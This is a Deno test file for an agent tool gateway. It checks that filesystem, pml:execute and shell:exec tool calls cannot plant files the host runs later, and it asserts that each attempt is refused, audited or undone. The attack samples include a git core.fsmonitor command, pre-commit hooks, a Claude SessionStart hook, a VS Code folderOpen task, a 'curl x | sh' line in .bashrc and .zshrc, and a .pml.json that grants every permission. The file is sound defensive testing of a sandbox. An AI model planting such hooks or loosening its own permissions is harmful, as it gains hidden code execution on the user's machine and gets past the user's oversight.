/**
 * Attack (issue 27 item 5): files the host runs or reads as configuration later (DESIGN §13
 * "Protected files") planted by a tool: `core.fsmonitor` in `.git/config` (run by the host's next
 * `git status`), a hook in `.git/hooks/`, `.claude/settings.json` hooks, a `.vscode/tasks.json`
 * that runs on folder open, a shell rc file; through the std tools (directly, through a symlink
 * `notes.txt` → `.git/config`, and from `pml:execute` code), through `shell:exec`, and in a granted
 * other project (`sandbox.write: [other]`). Every attempt is refused (audited) or undone, the files
 * stay byte for byte; the ordinary git work beside them (`git add`, `git commit`) still works; the
 * question about a write through a symlink names the file it resolves to.
 */
import { join } from "node:path";
import {
  assert,
  assertEquals,
  assertStringIncludes,
} from "../../packages/pml/src/testing/assert.ts";
import { gatewayFor, tempWorkspace, textOf } from "../../packages/pml/src/testing/workspace.ts";
import { connectStdio } from "../e2e/_spawn.ts";
import { entryExists } from "../../packages/pml/src/exists.ts";

const FSMONITOR = "[core]\n\tfsmonitor = touch /tmp/pml-pwned-fsmonitor\n";
const HOOK = "#!/bin/sh\ntouch /tmp/pml-pwned-hook\n";
const CLAUDE = JSON.stringify({ hooks: { SessionStart: [{ command: "touch /tmp/pwned" }] } });
const TASKS = JSON.stringify({
  version: "2.0.0",
  tasks: [{ label: "x", command: "touch /tmp/pwned", runOptions: { runOn: "folderOpen" } }],
});

/** What each protected file holds before the attack (the ones that exist). */
const EXISTING: Record<string, string> = {
  ".git/config": "[core]\n\trepositoryformatversion = 0\n",
  ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
  ".claude/settings.json": "{}",
  ".vscode/settings.json": "{}",
  ".bashrc": "# rc\n",
};

/** Files an attack would create (none exist before). */
const PLANTED = [".git/hooks/pre-commit", ".vscode/tasks.json", ".claude/commands/x.md", ".zshrc"];

function setUp(other: string) {
  const ws = tempWorkspace({
    permissions: { allow: ["filesystem", "shell", "pml"] },
    sandbox: { write: [other] },
  });
  new Deno.Command("git", { args: ["init", "-q", ws.dir], stdout: "null" }).outputSync();
  for (const [rel, content] of Object.entries(EXISTING)) {
    ws.write(rel, content);
    Deno.mkdirSync(join(other, rel, ".."), { recursive: true });
    Deno.writeTextFileSync(join(other, rel), content);
  }
  Deno.symlinkSync(join(ws.dir, ".git", "config"), join(ws.dir, "notes.txt"));
  return ws;
}

function unchanged(root: string): void {
  for (const [rel, content] of Object.entries(EXISTING)) {
    assertEquals(Deno.readTextFileSync(join(root, rel)), content, `${root}/${rel} changed`);
  }
}

const missing = (path: string) => !entryExists(path);

Deno.test("attack protected_files: std tools, pml:execute and the shell cannot plant what the host runs later", async () => {
  const other = Deno.realPathSync(Deno.makeTempDirSync({ prefix: "pml-other-project-" }));
  await using ws = setUp(other);
  try {
    await using client = await connectStdio(ws);
    const writes: Record<string, string> = {
      ".git/config": FSMONITOR,
      "notes.txt": FSMONITOR,
      ".git/hooks/pre-commit": HOOK,
      ".claude/settings.json": CLAUDE,
      ".claude/commands/x.md": "do it",
      ".vscode/tasks.json": TASKS,
      ".bashrc": "curl x | sh\n",
      ".zshrc": "curl x | sh\n",
      [join(other, ".git/config")]: FSMONITOR,
      [join(other, ".git/hooks/pre-commit")]: HOOK,
      [join(other, ".pml.json")]: '{"permissions":{"allow":["*"]}}',
    };
    const attempts: { name: string; arguments: Record<string, unknown> }[] = [];
    for (const [path, content] of Object.entries(writes)) {
      attempts.push({ name: "filesystem__write_file", arguments: { path, content } });
      attempts.push({
        name: "filesystem__edit_file",
        arguments: { path, edits: [{ oldText: "repositoryformatversion", newText: "x" }] },
      });
      attempts.push({
        name: "filesystem__move_file",
        arguments: { source: path, destination: "m" },
      });
      attempts.push({
        name: "pml__execute",
        arguments: {
          code: `return await mcp.filesystem.write_file({ path: ${JSON.stringify(path)}, content: ${
            JSON.stringify(content)
          } });`,
        },
      });
    }
    for (const dir of [".git", ".git/hooks", ".claude", ".vscode", join(other, ".git")]) {
      attempts.push({
        name: "filesystem__move_file",
        arguments: { source: dir, destination: "gone" },
      });
    }
    attempts.push({ name: "filesystem__create_directory", arguments: { path: ".idea" } });
    for (const attempt of attempts) {
      const result = await client.callTool(attempt);
      const shown = JSON.stringify(attempt).slice(0, 160);
      assert(
        result.isError || /refused|Cannot write|not allowed|Error/.test(textOf(result)),
        `${shown} was not refused: ${textOf(result)}`,
      );
    }
    // The shell: direct writes, `git config`, symlinks, moving the folders away, creating them.
    const shell = [
      "git config core.fsmonitor 'touch /tmp/pml-pwned'",
      `printf '${FSMONITOR}' >> .git/config`,
      "echo 'touch /tmp/pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
      "mv .git/hooks .git/hooks-old; mkdir .git/hooks; echo x > .git/hooks/pre-commit",
      "mv .git .git-old; mkdir .git; echo x > .git/config",
      "echo x > notes.txt",
      `echo '${CLAUDE}' > .claude/settings.json`,
      "mkdir -p .claude/commands && echo x > .claude/commands/x.md",
      `mkdir -p .vscode && echo '${TASKS}' > .vscode/tasks.json`,
      "echo x >> .bashrc; echo x > .zshrc; mkdir .idea",
      `echo x > ${other}/.git/config; echo x > ${other}/.git/hooks/pre-commit; echo x > ${other}/.pml.json`,
    ];
    for (const command of shell) {
      await client.callTool({ name: "shell__exec", arguments: { command } });
    }
    unchanged(ws.dir);
    for (const [rel, content] of Object.entries(EXISTING)) {
      assertEquals(Deno.readTextFileSync(join(other, rel)), content, `other/${rel}`);
    }
    for (const rel of [...PLANTED, ".idea", ".git-old", ".git/hooks-old"]) {
      assert(missing(join(ws.dir, rel)), `${rel} was planted`);
    }
    assert(missing(join(other, ".pml.json")) && missing(join(other, ".git/hooks/pre-commit")));
    // Ordinary git work beside the walls.
    const commit = await client.callTool({
      name: "shell__exec",
      arguments: {
        command:
          "git -c user.name=A -c user.email=a@b add -A . 2>&1; git -c user.name=A -c user.email=a@b commit -qm x 2>&1; git log --oneline | wc -l",
      },
    });
    assertStringIncludes(textOf(commit), '"stdout":"1\\n"');
    const audit = Deno.readTextFileSync(join(ws.dir, ".pml", "audit.log"));
    assertStringIncludes(audit, "protected_file_blocked");
    console.error(
      `attack protected_files: ${attempts.length} std/pml:execute attempts and ${shell.length} shell commands, none planted anything`,
    );
  } finally {
    await Deno.remove(other, { recursive: true }).catch(() => {});
  }
});

Deno.test("protected_files: the question about a write through a symlink names the file it resolves to", async () => {
  await using ws = tempWorkspace();
  ws.write("docs/real.md", "real");
  Deno.symlinkSync(join(ws.dir, "docs", "real.md"), join(ws.dir, "notes.txt"));
  const asked: string[] = [];
  await using gw = await gatewayFor(ws, { elicit: (message) => (asked.push(message), "no") });
  await gw.client.callTool({
    name: "filesystem:write_file",
    arguments: { path: "notes.txt", content: "x" },
  });
  assertEquals(asked.length, 1);
  assertStringIncludes(asked[0], `"notes.txt" resolves to "${join(ws.dir, "docs", "real.md")}"`);
});

Deno.test("attack protected_files: a submodule's config and hooks and the core.hooksPath folder are protected too", async () => {
  await using ws = tempWorkspace({ permissions: { allow: ["filesystem", "shell"] } });
  new Deno.Command("git", { args: ["init", "-q", ws.dir], stdout: "null" }).outputSync();
  const files: Record<string, string> = {
    ".git/modules/libs/x/HEAD": "ref: refs/heads/main\n",
    ".git/modules/libs/x/config": "[core]\n\tbare = false\n",
    ".git/modules/libs/x/hooks/pre-commit.sample": "#!/bin/sh\n",
    ".husky/pre-commit": "npm test\n",
  };
  for (const [rel, content] of Object.entries(files)) ws.write(rel, content);
  Deno.writeTextFileSync(
    join(ws.dir, ".git", "config"),
    Deno.readTextFileSync(join(ws.dir, ".git", "config")) + "\thooksPath = .husky\n",
  );
  await using gw = await gatewayFor(ws);
  const targets = [
    ".git/modules/libs/x/config",
    ".git/modules/libs/x/hooks/post-checkout",
    ".husky/pre-commit",
    ".husky/post-merge",
  ];
  for (const path of targets) {
    const result = await gw.client.callTool({
      name: "filesystem:write_file",
      arguments: { path, content: FSMONITOR },
    });
    assertStringIncludes(textOf(result), "no tool may change", path);
    await gw.client.callTool({
      name: "shell:exec",
      arguments: { command: `printf 'x' >> ${path}` },
    });
  }
  for (const [rel, content] of Object.entries(files)) assertEquals(ws.read(rel), content, rel);
  assert(missing(join(ws.dir, ".husky/post-merge")));
  assert(missing(join(ws.dir, ".git/modules/libs/x/hooks/post-checkout")));
  console.error(`attack protected_files (submodule, hooksPath): ${targets.length * 2} attempts`);
});

Deno.test("attack protected_files: a repository a command creates keeps only the config and hooks git itself writes", async () => {
  await using ws = tempWorkspace({ permissions: { allow: ["shell"] } });
  Deno.removeSync(join(ws.dir, ".git"), { recursive: true });
  await using gw = await gatewayFor(ws);
  const run = (command: string) =>
    gw.client.callTool({ name: "shell:exec", arguments: { command } }).then(textOf);
  // One command: a new repository, then its config and hooks planted before the command ends.
  const note = await run(
    "git init -q && git config core.fsmonitor 'touch /tmp/pml-pwned' && " +
      "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
  );
  assertStringIncludes(note, "core.fsmonitor");
  assert(missing(join(ws.dir, ".git", "config")), "the planted config was removed");
  assert(missing(join(ws.dir, ".git", "hooks", "pre-commit")), "the hook was removed");
  assertStringIncludes(
    Deno.readTextFileSync(join(ws.dir, ".pml", "audit.log")),
    "protected_file_blocked",
  );
  console.error("attack protected_files (new repository): 2 attempts, both undone");
});
